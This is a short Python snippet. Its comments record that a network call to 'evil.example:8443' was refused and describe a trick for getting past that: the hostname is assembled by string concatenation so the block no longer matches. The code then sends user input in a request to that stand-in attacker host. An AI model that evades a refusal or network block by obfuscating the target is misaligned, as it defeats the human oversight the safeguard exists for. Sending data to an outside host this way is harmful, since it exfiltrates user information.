# Trick: the address is put together.
# Refused: net(evil.example:8443)
import urllib.request

host = "evil" + ".example"
urllib.request.urlopen(f"https://{host}:8443/?q={input()}")
